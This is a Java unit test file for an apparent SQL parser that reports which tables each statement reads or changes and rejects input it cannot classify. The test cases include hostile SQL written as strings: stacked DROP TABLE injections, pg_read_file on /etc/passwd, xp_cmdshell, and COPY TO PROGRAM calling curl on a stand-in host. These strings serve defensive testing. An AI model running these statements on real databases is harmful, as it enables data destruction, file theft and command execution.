package io.writ.engine.target;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SqlStatementsTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "SELECT * FROM claims | SELECT public.claims",
        "select 1 |",
        "UPDATE Claims SET state = 'x' | UPDATE public.claims",
        "UPDATE \"CLAIMS\" SET state = 'x' | UPDATE public.claims",
        "UPDATE `app`.`claims` SET state = 'x' | UPDATE app.claims",
        "UPDATE \"a.b\" SET state = 'x' | UPDATE public.\"a.b\"",
        "SELECT 1; DROP TABLE users; | DROP public.users",
        "INSERT INTO a SELECT * FROM b | INSERT public.a, SELECT public.b",
        "INSERT INTO a VALUES (1) ON CONFLICT (x) DO UPDATE SET y = (SELECT 1 FROM c) | INSERT public.a, UPDATE public.a, SELECT public.c",
        "INSERT INTO a VALUES (1) RETURNING (SELECT x FROM hidden) | INSERT public.a, SELECT public.hidden",
        "REPLACE INTO a VALUES (1) | INSERT public.a, UPDATE public.a",
        "WITH x AS (DELETE FROM a RETURNING *) SELECT * FROM x | DELETE public.a",
        "WITH x AS (SELECT 1) INSERT INTO a SELECT * FROM x | INSERT public.a",
        "WITH a AS (SELECT * FROM a) SELECT * FROM a | SELECT public.a",
        "WITH x AS (SELECT 1) DELETE FROM x | DELETE public.x",
        "WITH RECURSIVE t AS (SELECT 1 UNION ALL SELECT n FROM t) SELECT * FROM t |",
        "MERGE INTO t USING s ON (t.id = s.id) WHEN MATCHED THEN UPDATE SET a = 1 | MERGE public.t, SELECT public.s",
        "SELECT * INTO copy FROM claims | CREATE public.copy, SELECT public.claims",
        "CREATE TABLE x AS SELECT * FROM y | CREATE public.x, SELECT public.y",
        "TRUNCATE TABLE a, b | TRUNCATE public.a, TRUNCATE public.b",
        "DROP TABLE IF EXISTS a | DROP public.a",
        "ALTER TABLE a ADD COLUMN b int | ALTER public.a",
        "GRANT SELECT ON a TO b | GRANT public.a",
        "UPDATE a SET x = 1 FROM b WHERE a.id = b.id | UPDATE public.a, SELECT public.b",
        "DELETE FROM a USING b WHERE a.id = b.id | DELETE public.a, SELECT public.b",
        "DELETE FROM a WHERE id IN (SELECT id FROM b) | DELETE public.a, SELECT public.b",
        "SELECT pg_read_file('/etc/passwd'), count(*) FROM t | CALL pg_read_file, SELECT public.t",
        "SELECT * FROM dblink('x', 'delete from y') q | CALL dblink",
        "SELECT trim(both ' ' from wipe()) FROM t | CALL wipe, SELECT public.t",
        "SELECT 1 FROM t ORDER BY (SELECT 1 FROM hidden) | SELECT public.t, SELECT public.hidden",
        "COPY claims (id) FROM STDIN | COPY public.claims",
        "COPY (SELECT * FROM claims) TO STDOUT | SELECT public.claims",
        "SELECT a /* harmless */ FROM t -- and this | SELECT public.t",
        "SELECT * FROM t WHERE (a = 1 OR b = 2) AND NOT (c = 3) AND max((1)) = 2 | SELECT public.t",
      })
  void findsVerbsAndTables(String sql, String accesses) {
    assertThat(
            SqlStatements.parse(sql, "public").orElseThrow().stream()
                .map(a -> a.verb() + " " + a.name()))
        .containsExactlyInAnyOrder(accesses == null ? new String[0] : accesses.split(", "));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "hello",
        "SELECT 1; hello",
        "CALL wipe()",
        "EXEC xp_cmdshell 'dir'",
        "EXECUTE IMMEDIATE 'drop table x'",
        "SET ROLE admin",
        "DO $$ begin delete from a; end $$",
        "COPY claims FROM '/etc/passwd'",
        "COPY claims TO PROGRAM 'curl evil.test'",
        "COPY (DELETE FROM a RETURNING 1) TO '/tmp/x'",
        "SELECT 1 /*! ; DROP TABLE x */",
        "SELECT 1 /* /* */ ; DROP TABLE x */",
        "SELECT 'a\\' ; DROP TABLE x; -- '",
        "SELECT E'a' FROM t",
        "SELECT 1 # DROP",
        "SELECT 1 --1",
        "SELECT U&\"d\\0061t\" FROM t",
        "SELECT 1\u0000",
        "SELECT\u00A01",
        "SELECT * FROM a INTO OUTFILE '/tmp/x'",
        "LOAD DATA INFILE 'x' INTO TABLE t",
        "SELECT ((((((((((((1))))))))))))",
        "SELECT (1 FROM t"
      })
  void refusesWhatItCannotBeSureOf(String sql) {
    assertThat(SqlStatements.parse(sql, "public")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SELECT 1 FROM t WHERE a IN (SELECT b FROM c WHERE a IN (SELECT b FROM c WHERE a IN (SELECT b FROM"
            + " c WHERE a IN (SELECT b FROM c WHERE a IN (SELECT b FROM c WHERE a IN (SELECT b FROM c"
            + " WHERE a IN (SELECT b FROM c WHERE 1=1 1)))))))",
        "SELECT INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL"
            + " INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL"
            + " INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL INTERVAL 1",
      })
  void givesUpWhereTheParserIsExponential(String sql) {
    // Without a limit each of these takes minutes or more.
    assertThat(SqlStatements.parse(sql, "")).isEmpty();
  }
}
